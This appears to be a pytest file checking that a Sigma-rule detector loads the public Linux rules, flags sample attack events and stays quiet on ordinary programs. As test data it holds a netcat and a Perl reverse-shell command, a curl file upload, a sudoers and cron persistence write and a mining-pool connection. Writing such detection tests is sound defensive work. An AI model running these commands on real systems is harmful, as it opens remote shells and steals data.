"""The public Linux rules: all of the categories that there are events of run, and find what they are for."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

pytest.importorskip("sigma", reason="pySigma is not installed (requirements/sigma.txt)")

from tests.detect.sigma_events import PUBLIC, flow, started, titles, written

from leeward.detect.sigma.detector import Sigma
from leeward.detect.sigma.events import event, process_creation
from leeward.detect.sigma.load import load_sigma
from leeward.detect.sigma.ruleset import Needs

_public = pytest.mark.skipif(not PUBLIC.is_dir(), reason=f"the public rules are not here: {PUBLIC}")


@_public
def test_the_public_rules_of_our_categories_all_run() -> None:
    folders = [PUBLIC / name for name in ("process_creation", "network_connection", "file_event")]
    made = load_sigma(folders)
    assert made.complaints == ()
    assert len(made.rules) == sum(len(list(folder.glob("*.yml"))) for folder in folders) >= 100


@_public
def test_of_all_public_rules_each_runs_or_is_named() -> None:
    made = load_sigma([PUBLIC])
    files = {str(path) for path in PUBLIC.rglob("*.yml")}
    assert {r.about.file for r in made.rules} | {c.file for c in made.complaints} == files
    assert {r.about.file for r in made.rules}.isdisjoint(c.file for c in made.complaints)
    assert all("logsource" in complaint.why for complaint in made.complaints)


_ATTACKS = [
    (
        "Potential Perl Reverse Shell Execution",
        started("perl -e use Socket; connect(S); open(STDIN); exec(sh)", "/usr/bin/perl"),
    ),
    ("Potential Netcat Reverse Shell Execution", started("nc 203.0.113.7 4444 -e /bin/sh", "/usr/bin/nc")),
    ("Decode Base64 Encoded Text", started("base64 -d /tmp/x", "/usr/bin/base64")),
    ("Remove Immutable File Attribute", started("chattr -i /etc/passwd", "/usr/bin/chattr")),
    ("Suspicious Curl File Upload - Linux", started("curl --upload-file /etc/x https://example.com", "/usr/bin/curl")),
    ("Shell Execution via Find - Linux", started("find . -exec /bin/sh ;", "/usr/bin/find")),
    ("Linux Webshell Indicators", started("whoami", "/usr/bin/whoami", parent="/usr/sbin/nginx")),
    ("Communication To Ngrok Tunneling Service - Linux", flow("tunnel.us.ngrok.com")),
    ("Linux Crypto Mining Pool Connections", flow("pool.supportxmr.com")),
    ("Potentially Suspicious Malware Callback Communication - Linux", flow(port=4444, ip="198.51.100.7")),
    ("Persistence Via Sudoers.d Files", written("/etc/sudoers.d/x")),
    ("New Cron File Created", written("/etc/cron.d/x")),
]


@_public
@pytest.mark.parametrize(("title", "happened"), _ATTACKS, ids=[title for title, _ in _ATTACKS])
def test_public_rules_find_what_they_are_for(public: Sigma, title: str, happened: Any) -> None:
    assert title in titles(public.feed(happened))


@_public
def test_public_rules_say_nothing_of_usual_programs(public: Sigma) -> None:
    usual = [
        ("/usr/bin/git", "git fetch --all"), ("/usr/bin/gcc", "gcc -O2 -c x.c"), ("/usr/bin/make", "make -j4"),
        ("/usr/bin/python3", "python3 -m pytest -q"), ("/usr/local/bin/node", "node server.js"), ("/usr/bin/sleep", "sleep 1"),
    ]  # fmt: skip
    assert [titles(public.feed(started(command, exe))) for exe, command in usual] == [[]] * len(usual)


def _words(needs: Needs) -> Iterator[str]:
    """The texts of what a rule needs, without the fields' names about them."""
    for need in needs or ():
        if not need.regex:
            yield max(need.text.strip("\n").split("\0"), key=lambda part: ("/" in part, " " in part, len(part)))


@_public
def test_the_prefilter_leaves_out_nothing_that_fits() -> None:
    """Of the rules' own words put together the same rules fit with it as without."""
    made = load_sigma([PUBLIC / "process_creation"])
    rules, fitted = Sigma(made)._categories["process_creation"], 0
    words = sorted({word for rule in made.rules for word in _words(rule.needs)})
    for at in range(0, len(words) - 3, 2):
        for exe in (words[at] if words[at].startswith("/") else "/usr/bin/find", "/usr/bin/bash", "/usr/bin/curl"):
            activity = started(
                " ".join(words[at : at + 3]), exe, parent=f"/usr/bin/{words[at + 1].rpartition('/')[2] or 'java'}"
            )
            happened = event("process_creation", activity, process_creation(activity))
            fitting = [number for number, rule in enumerate(made.rules) if rule.test(happened)]
            assert rules.fitting(happened) == fitting
            fitted += len(fitting)
    assert fitted > 100


@pytest.fixture(scope="module")
def public() -> Sigma:
    if not PUBLIC.is_dir():
        pytest.skip(f"the public rules are not here: {PUBLIC}")
    return Sigma(load_sigma([PUBLIC]))
